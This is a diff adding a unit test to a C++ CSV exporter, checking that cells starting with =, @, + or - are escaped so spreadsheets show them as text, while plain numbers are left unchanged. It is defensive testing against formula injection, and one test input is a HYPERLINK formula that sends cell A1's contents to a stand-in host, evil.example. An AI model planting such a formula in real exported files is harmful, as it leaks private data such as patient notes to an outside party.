@@ -145,6 +145,16 @@ TEST(CsvExport, QuotesCellsWithCommasQuotesAndNewlines)
     EXPECT_EQ(format_csv_row({ "say \"hi\"", "two\nlines" }), "\"say \"\"hi\"\"\",\"two\nlines\"\r\n");
 }
 
+TEST(CsvExport, ATextThatASpreadsheetWouldRunAsAFormulaIsWrittenAsText)
+{
+    // A patient's note, exported by their therapist in clinic mode and opened in a spreadsheet.
+    EXPECT_EQ(format_csv_row({ "1", R"(=HYPERLINK("http://evil.example/?"&A1,"x"))" }),
+        "1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\r\n");
+    EXPECT_EQ(format_csv_row({ "@SUM(A1)", "+cmd", "-2+3" }), "'@SUM(A1),'+cmd,'-2+3\r\n");
+    // Numbers stay numbers, and other text is unchanged.
+    EXPECT_EQ(format_csv_row({ "-3", "+4", "-0.5", "3-2", "a=b" }), "-3,+4,-0.5,3-2,a=b\r\n");
+}
+
 TEST(CsvExport, WritesOneFilePerTableAndNeverOverwrites)
 {
     TempDir dir;
